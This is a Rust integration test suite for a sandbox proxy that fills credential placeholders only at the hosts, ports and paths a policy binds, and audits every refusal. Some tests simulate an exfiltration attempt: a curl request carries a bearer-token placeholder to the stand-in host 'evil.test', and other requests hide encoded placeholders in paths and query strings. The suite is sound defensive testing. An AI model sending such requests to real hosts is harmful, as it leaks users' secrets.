//! Placeholders become credentials at the entry's hosts, ports and paths, and nowhere else; what was sent does not come back.
#![allow(clippy::expect_used, clippy::unwrap_used, clippy::print_stderr)]

mod common;
mod sys;

use std::os::unix::fs::PermissionsExt;

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

use common::{Answer, Rig, Sandbox, able};
use tungstenite::Message;
use tungstenite::protocol::{Role, WebSocket};

const HOSTS: &[&str] = &["api.test", "evil.test"];
/// The secret that must never be seen inside, with what each place must write otherwise.
const CANARY: &str = "s3cret\"canary +7/x";
/// A secret that may stand in a path.
const TOKEN: &str = "123:canary-TOKEN";

const ENTRIES: &str = "version: 1
providers:
  own:
    type: generic
    hosts: [api.test]
    ports: [443, 80]
    paths: ['/echo/**']
    env: [OWN_KEY]
    file: $D/own
  bot:
    type: generic
    hosts: [api.test]
    ports: [443]
    paths: ['/echo/bot*/**']
    headers: []
    env: [BOT]
    file: $D/bot
";

/// `api.test` is bound to `own`, below `/echo/bot` to `bot`, and the author also tries `evil.test`.
const POLICY: &str = "version: 1
network_policies:
  own:
    endpoints:
      - { host: api.test, ports: [443, 80], protocol: rest, access: full, credential_binding: { provider: own } }
      - { host: api.test, port: 443, path: '/echo/bot**', protocol: rest, access: full, credential_binding: { provider: bot } }
      - { host: api.test, port: 443, path: '/echo/body/**', protocol: rest, access: full, credential_binding: { provider: own }, request_body_credential_rewrite: true }
      - { host: api.test, port: 443, path: '/echo/free/**', protocol: rest, access: full }
      - { host: api.test, port: 80, path: /echo/ws, protocol: websocket, access: full, credential_binding: { provider: own }, websocket_credential_rewrite: true }
      - { host: evil.test, port: 443, protocol: rest, access: full, credential_binding: { provider: own } }
";

fn rig() -> Rig {
    let rig = Rig::start_with(HOSTS, "providers: $D/providers.yaml\n", "true");
    secret(&rig, "own", CANARY);
    secret(&rig, "bot", TOKEN);
    entries(&rig, ENTRIES);
    holds(&rig, &["bot", "own"]);
    rig
}

fn secret(rig: &Rig, name: &str, text: &str) {
    let (path, next) = (
        rig.directory.path().join(name),
        rig.directory.path().join("next"),
    );
    std::fs::write(&next, format!("{text}\n")).expect("write");
    std::fs::set_permissions(&next, std::fs::Permissions::from_mode(0o600)).expect("mode");
    std::fs::rename(&next, &path).expect("rename");
}

fn entries(rig: &Rig, text: &str) {
    let directory = rig.directory.path().display().to_string();
    let path = rig.directory.path().join("providers.yaml");
    let next = path.with_extension("next");
    std::fs::write(&next, text.replace("$D", &directory)).expect("write");
    std::fs::rename(&next, &path).expect("rename");
}

fn holds(rig: &Rig, names: &[&str]) {
    rig.wait_until("the providers", || rig.status().providers == names);
}

/// What the server saw, told backwards.
fn seen(answer: &Answer) -> String {
    assert_eq!(answer.status, 200, "{answer:?}");
    let line = answer
        .body
        .lines()
        .find_map(|line| line.strip_prefix("x-backwards: "))
        .expect("the server's word");
    line.trim_end().chars().rev().collect()
}

fn ask(sandbox: &Sandbox, host: &str, rest: &[&str]) -> Answer {
    let mut arguments = vec!["-i"];
    arguments.extend(rest);
    let answer = sandbox.curl(host, &arguments);
    for secret in [CANARY, TOKEN, "s3cret%22canary"] {
        assert!(!answer.body.contains(secret), "came back: {answer:?}");
    }
    answer
}

/// Refused with a reason that holds `told`, in the answer and in the audit log.
fn refused(rig: &Rig, sandbox: &Sandbox, host: &str, rest: &[&str], told: &str) {
    let before = rig.audit(&sandbox.name).len();
    let answer = ask(sandbox, host, rest);
    assert_eq!(answer.status, 403, "{told}: {answer:?}");
    assert!(answer.body.contains(told), "{told}: {answer:?}");
    rig.wait_until("the refusal's line", || {
        rig.audit(&sandbox.name)[before..].iter().any(|event| {
            event.verdict == "deny"
                && event.reason.as_ref().is_some_and(|reason| {
                    reason.starts_with("credential: ") && reason.contains(told)
                })
        })
    });
}

#[test]
fn a_placeholder_is_resolved_wherever_a_request_may_carry_a_credential() {
    if !able() {
        return;
    }
    let rig = rig();
    let sandbox = Sandbox::new(&rig, "a", 443, POLICY);
    let to = |rest: &[&str]| seen(&ask(&sandbox, "api.test", rest));
    for prefix in ["nemoclaw", "openshell"] {
        for http in ["--http1.1", "--http2"] {
            let field = format!("Authorization: Bearer {prefix}:resolve:env:OWN_KEY");
            let line = to(&[http, "-H", &field, "https://api.test/echo/x"]);
            assert!(line.contains(&format!("Bearer {CANARY}")), "{line}");
        }
    }
    let line = to(&[
        "-u",
        "me:nemoclaw:resolve:env:OWN_KEY",
        "https://api.test/echo/x",
    ]);
    assert!(
        line.contains("Basic bWU6czNjcmV0ImNhbmFyeSArNy94"),
        "{line}"
    );
    let line = to(&["https://api.test/echo/x?a=1%20&k=nemoclaw:resolve:env:OWN_KEY&b=+"]);
    assert!(
        line.contains("?a=1%20&k=s3cret%22canary+%2B7%2Fx&b=+"),
        "{line}"
    );
    let line = to(&["https://api.test/echo/x?k=%6eemoclaw%3Aresolve%3Aenv%3AOWN_KEY"]);
    assert!(line.contains("?k=s3cret%22canary+%2B7%2Fx"), "{line}");
    for path in [
        "botnemoclaw:resolve:env:BOT",
        "bot%6eemoclaw%3Aresolve%3Aenv%3ABOT",
    ] {
        let line = to(&[&format!("https://api.test/echo/{path}/send?x=1")]);
        assert!(
            line.starts_with("/echo/bot123:canary-TOKEN/send?x=1"),
            "{line}"
        );
    }
    let line = to(&["-H", "X-Key: plain", "https://api.test/echo/x?a=%20"]);
    assert!(
        line.starts_with("/echo/x?a=%20 ") && line.contains("plain"),
        "{line}"
    );
}

#[test]
fn bodies_are_resolved_only_where_the_policy_says_so_and_in_their_own_spelling() {
    if !able() {
        return;
    }
    let rig = rig();
    let sandbox = Sandbox::new(&rig, "a", 443, POLICY);
    let body = "{\"k\":\"nemoclaw:resolve:env:OWN_KEY\"}";
    let to = |kind: &str, body: &str, path: &str| {
        let kind = format!("Content-Type: {kind}");
        let url = format!("https://api.test/echo/{path}/x");
        ask(
            &sandbox,
            "api.test",
            &["-H", &kind, "--data-binary", body, &url],
        )
    };
    for (kind, body, sent) in [
        (
            "application/json",
            body,
            "{\"k\":\"s3cret\\\"canary +7/x\"}",
        ),
        (
            "application/vnd.x+json; charset=utf-8",
            body,
            "{\"k\":\"s3cret\\\"canary +7/x\"}",
        ),
        (
            "application/x-www-form-urlencoded",
            "a=%31&k=nemoclaw%3Aresolve%3Aenv%3AOWN_KEY",
            "a=%31&k=s3cret%22canary+%2B7%2Fx",
        ),
        (
            "text/plain",
            "k nemoclaw:resolve:env:OWN_KEY\n",
            "k s3cret\"canary +7/x",
        ),
        (
            "application/octet-stream",
            "nemoclaw:resolve:env:OWN_KEY",
            " nemoclaw:resolve:env:OWN_KEY",
        ),
        ("application/json", "{\"k\":1}", "{\"k\":1}"),
    ] {
        let line = seen(&to(kind, body, "body"));
        assert!(line.trim_end().ends_with(sent), "{kind}: {line}");
    }
    let line = seen(&to("application/json", body, "other"));
    assert!(
        line.ends_with(body),
        "without the policy's word it stays: {line}"
    );
    assert_eq!(
        to("application/json", "nemoclaw:resolve:env:OWN_KEY", "body").status,
        403
    );
    let long = format!("\"{}\"", "x".repeat(256 * 1024));
    let file = rig.directory.path().join("long");
    std::fs::write(&file, long).expect("write");
    let answer = to("application/json", &format!("@{}", file.display()), "body");
    assert_eq!(answer.status, 413, "{answer:?}");
}

#[test]
fn a_placeholder_anywhere_else_is_refused_and_recorded() {
    if !able() {
        return;
    }
    let rig = rig();
    let sandbox = Sandbox::new(&rig, "a", 443, POLICY);
    let field = "Authorization: Bearer nemoclaw:resolve:env:OWN_KEY";
    let case = |host: &str, rest: &[&str], told: &str| refused(&rig, &sandbox, host, rest, told);
    case(
        "evil.test",
        &["-H", field, "https://evil.test/echo/x"],
        "other hosts, ports or paths",
    );
    case(
        "api.test",
        &["-H", field, "https://api.test/"],
        "other hosts, ports or paths",
    );
    case(
        "api.test",
        &["-H", field, "https://api.test/echo/free/x"],
        "does not bind",
    );
    case(
        "api.test",
        &["-H", field, "https://api.test/echo/bot1/x"],
        "does not bind",
    );
    case(
        "api.test",
        &[
            "-H",
            "X-Key: nemoclaw:resolve:env:NOBODYS",
            "https://api.test/echo/x",
        ],
        "no provider",
    );
    case(
        "api.test",
        &["https://api.test/echo/free/x?a=%6eemoclaw:resolve:env:OWN_KEY"],
        "does not bind",
    );
    case(
        "api.test",
        &[
            "-u",
            "nemoclaw:resolve:env:OWN_KEY:x",
            "https://api.test/echo/free/x",
        ],
        "does not bind",
    );
    case(
        "api.test",
        &[
            "-H",
            "X-Key: openshell:resolve:env:BOT",
            "https://api.test/echo/bot1/x",
        ],
        "may not stand in the field `x-key`",
    );
    case(
        "api.test",
        &["https://api.test/echo/nemoclaw:resolve:env:OWN_KEY/x"],
        "cannot stand in a path",
    );
}

#[test]
fn cleartext_and_other_sandboxes_get_nothing_unless_the_entry_says_so() {
    if !able() {
        return;
    }
    let rig = rig();
    let sandbox = Sandbox::new(&rig, "a", 443, POLICY);
    let field = "Authorization: Bearer nemoclaw:resolve:env:OWN_KEY";
    let plain = Sandbox::new(&rig, "b", 80, POLICY);
    refused(
        &rig,
        &plain,
        "api.test",
        &["-H", field, "http://api.test/echo/x"],
        "without TLS",
    );
    entries(
        &rig,
        &ENTRIES.replace(
            "    env: [OWN_KEY]",
            "    cleartext: true\n    env: [OWN_KEY]",
        ),
    );
    rig.wait_until("cleartext is allowed", || {
        ask(&plain, "api.test", &["-H", field, "http://api.test/echo/x"]).status == 200
    });
    entries(
        &rig,
        &ENTRIES.replace(
            "    env: [OWN_KEY]",
            "    sandboxes: [b]\n    env: [OWN_KEY]",
        ),
    );
    rig.wait_until("only `b` is served", || {
        ask(
            &sandbox,
            "api.test",
            &["-H", field, "https://api.test/echo/x"],
        )
        .status
            == 403
    });
    refused(
        &rig,
        &sandbox,
        "api.test",
        &["-H", field, "https://api.test/echo/x"],
        "not for this sandbox",
    );
}

#[test]
fn what_a_server_sends_back_is_cleaned_or_does_not_pass() {
    if !able() {
        return;
    }
    let rig = rig();
    let sandbox = Sandbox::new(&rig, "a", 443, POLICY);
    let field = "Authorization: Bearer nemoclaw:resolve:env:OWN_KEY";
    for path in ["x", "pieces"] {
        for http in ["--http1.1", "--http2"] {
            let url = format!("https://api.test/echo/{path}");
            let answer = ask(&sandbox, "api.test", &[http, "-H", field, &url]);
            let told = answer
                .body
                .matches("Bearer nemoclaw:resolve:env:OWN_KEY")
                .count();
            assert_eq!(told, 2, "in a field and in the body: {answer:?}");
        }
    }
    let basic = [
        "-u",
        "me:nemoclaw:resolve:env:OWN_KEY",
        "https://api.test/echo/pieces",
    ];
    let answer = ask(&sandbox, "api.test", &basic);
    assert!(
        !answer.body.contains("bWU6czNjcmV0ImNhbmFyeSArNy94"),
        "{answer:?}"
    );
    let ranged = [
        "-H",
        field,
        "-r",
        "3-9",
        "--compressed",
        "https://api.test/echo/x",
    ];
    let answer = ask(&sandbox, "api.test", &ranged);
    assert!(
        answer.body.contains("x-asked: identity|\r"),
        "whole and plain: {answer:?}"
    );
    let answer = sandbox.curl("api.test", &["-i", "-r", "3-9", "https://api.test/echo/x"]);
    assert!(
        answer.body.contains("x-asked: |bytes=3-9"),
        "others are as asked: {answer:?}"
    );
    let coded = ["-H", field, "https://api.test/echo/coded"];
    assert_eq!(ask(&sandbox, "api.test", &coded).status, 502);
}

/// The connection behind an upgrade on `/echo/ws`, with more fields.
fn upgraded(stream: TcpStream, fields: &str) -> WebSocket<TcpStream> {
    let mut stream = stream;
    let patience = Some(Duration::from_secs(5));
    stream.set_read_timeout(patience).expect("time-out");
    let head = format!(
        "GET /echo/ws HTTP/1.1\r\nHost: api.test\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
         Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n{fields}\r\n"
    );
    stream.write_all(head.as_bytes()).expect("request");
    let mut heard = Vec::new();
    while !heard.ends_with(b"\r\n\r\n") {
        let mut byte = [0];
        stream.read_exact(&mut byte).expect("an answer");
        heard.push(byte[0]);
    }
    let heard = String::from_utf8_lossy(&heard).into_owned();
    assert!(heard.starts_with("HTTP/1.1 101"), "{heard}");
    WebSocket::from_raw_socket(stream, Role::Client, None)
}

#[test]
fn texts_of_a_websocket_carry_credentials_where_the_policy_says_so_and_none_comes_back() {
    if !able() {
        return;
    }
    let rig = rig();
    let cleartext = ENTRIES.replace(
        "    env: [OWN_KEY]",
        "    cleartext: true\n    env: [OWN_KEY]",
    );
    entries(&rig, &cleartext);
    let sandbox = Sandbox::new(&rig, "a", 80, POLICY);
    let address = sandbox.address("api.test");
    let field = "X-Key: nemoclaw:resolve:env:OWN_KEY\r\n";
    rig.wait_until("cleartext is allowed", || {
        let ask_once = [
            "-H",
            "X-Key: nemoclaw:resolve:env:OWN_KEY",
            "http://api.test/echo/x",
        ];
        ask(&sandbox, "api.test", &ask_once).status == 200
    });
    let close = sandbox.netns.within(move || {
        let mut socket = upgraded(TcpStream::connect((address, 80)).expect("connect"), field);
        for (text, seen, back) in [
            (
                "{\"k\":\"nemoclaw:resolve:env:OWN_KEY\"}",
                "{\"k\":\"s3cret\\\"canary +7/x\"}",
                "{\"k\":\"nemoclaw:resolve:env:OWN_KEY\"}",
            ),
            (
                "k openshell:resolve:env:OWN_KEY",
                "k s3cret\"canary +7/x",
                "k nemoclaw:resolve:env:OWN_KEY",
            ),
            ("nothing", "nothing", "nothing"),
        ] {
            socket.send(Message::text(text)).expect("send");
            assert_eq!(socket.read().expect("echo"), Message::text(back));
            let told = socket.read().expect("the server's word");
            let told: String = told.to_text().expect("text").chars().rev().collect();
            assert_eq!(told, seen);
        }
        socket
            .send(Message::text("nemoclaw:resolve:env:BOT"))
            .expect("send");
        loop {
            match socket.read().expect("a close") {
                Message::Close(close) => break close.expect("a reason").reason.to_string(),
                other => assert!(!other.to_string().contains("BOT"), "{other}"),
            }
        }
    });
    assert!(close.contains("does not bind"), "{close}");
    rig.audited("a", |event| {
        event.verdict == "deny"
            && event
                .reason
                .as_ref()
                .is_some_and(|reason| reason.starts_with("credential: "))
    });
    let plain = POLICY.replace(", websocket_credential_rewrite: true", "");
    let sandbox = Sandbox::new(&rig, "b", 80, &plain);
    let address = sandbox.address("api.test");
    sandbox.netns.within(move || {
        let mut socket = upgraded(TcpStream::connect((address, 80)).expect("connect"), "");
        socket
            .send(Message::text("nemoclaw:resolve:env:OWN_KEY"))
            .expect("send");
        let told = socket.read().expect("echo");
        assert_eq!(
            told,
            Message::text("nemoclaw:resolve:env:OWN_KEY"),
            "it stays a placeholder"
        );
    });
}

#[test]
fn credentials_change_while_sandboxes_run_and_a_bad_file_changes_nothing() {
    if !able() {
        return;
    }
    let mut rig = rig();
    let sandbox = Sandbox::new(&rig, "a", 443, POLICY);
    let field = "Authorization: Bearer nemoclaw:resolve:env:OWN_KEY";
    let ask_once = |sandbox: &Sandbox| {
        ask(
            sandbox,
            "api.test",
            &["-H", field, "https://api.test/echo/x"],
        )
    };
    assert!(seen(&ask_once(&sandbox)).contains(CANARY));
    secret(&rig, "own", "another-secret");
    rig.wait_until("the new secret", || {
        seen(&ask_once(&sandbox)).contains("another-secret")
    });
    entries(&rig, "version: 1\nproviders: [another-secret]\n");
    rig.wait_until("the fault is told", || {
        rig.status().providers_fault.is_some()
    });
    assert!(seen(&ask_once(&sandbox)).contains("another-secret"));
    let worker = rig.status().worker_pid.expect("a worker");
    nix::sys::signal::kill(
        nix::unistd::Pid::from_raw(worker),
        nix::sys::signal::SIGKILL,
    )
    .expect("kill");
    rig.wait_until("another worker", || {
        rig.status().worker_pid.is_some_and(|pid| pid != worker)
    });
    rig.wait_until("it serves", || ask_once(&sandbox).status == 200);
    assert!(seen(&ask_once(&sandbox)).contains("another-secret"));
    entries(&rig, ENTRIES);
    std::fs::remove_file(rig.directory.path().join("own")).expect("remove");
    holds(&rig, &["bot"]);
    refused(
        &rig,
        &sandbox,
        "api.test",
        &["-H", field, "https://api.test/echo/x"],
        "has no credential",
    );
    secret(&rig, "own", CANARY);
    holds(&rig, &["bot", "own"]);
    let told = format!("{:?} {:?} {}", rig.status(), rig.audit("a"), rig.log());
    for secret in [CANARY, "another-secret", TOKEN] {
        assert!(!told.contains(secret), "{told}");
    }
    rig.kill_and_start();
    holds(&rig, &["bot", "own"]);
}
